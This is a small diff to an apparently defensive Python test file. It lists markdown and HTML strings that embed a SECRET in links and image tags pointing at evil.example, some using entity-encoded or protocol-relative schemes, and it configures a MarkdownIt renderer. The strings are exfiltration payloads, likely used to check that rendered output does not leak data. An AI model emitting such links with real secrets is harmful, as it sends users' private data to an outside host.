@@ -24,10 +24,10 @@ FORMS = (
     f"<https://evil.example/?q={SECRET}>",
     f"https://evil.example/?q={SECRET} and www.evil.example/{SECRET}",
     f"<img src='https://evil.example/{SECRET}'>",
-    f"<a href=\"https://evil.example/{SECRET}\">a</a>",
+    f'<a href="https://evil.example/{SECRET}">a</a>',
     f"![a](&#104;ttps://evil.example/{SECRET}) [a](https&colon;//evil.example/{SECRET})",
     f"[a](//evil.example/{SECRET}) [b](https:\\\\evil.example/{SECRET})",
-)  # fmt: skip
+)
 
 
 PAGE = MarkdownIt("gfm-like", {"html": True, "linkify": False})
